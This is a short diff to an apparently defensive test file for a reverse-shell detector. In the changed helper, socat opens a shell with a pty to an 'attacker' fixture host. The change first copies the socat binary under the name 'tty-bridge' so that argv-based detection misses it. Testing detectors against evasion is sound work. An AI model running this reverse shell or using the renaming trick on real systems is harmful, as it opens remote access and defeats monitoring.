@@ -150,7 +150,11 @@ def _fifo_renamed_nc(tmp_path: Path, attacker) -> subprocess.Popen:
 
 
 def _socat_pty(tmp_path: Path, attacker) -> subprocess.Popen:
-    return _start(["socat", f"TCP:{attacker.host}:{attacker.port}", "EXEC:sh,pty,stderr,setsid"])
+    """socat under another name: shell-socat-exec (argv) does not know it
+    (nor kills it first, in a foreign enforcing daemon on a shared host)."""
+    relay = tmp_path / "tty-bridge"
+    shutil.copy(shutil.which("socat") or "/usr/bin/socat", relay)
+    return _start([str(relay), f"TCP:{attacker.host}:{attacker.port}", "EXEC:sh,pty,stderr,setsid"])
 
 
 @pytest.mark.parametrize(
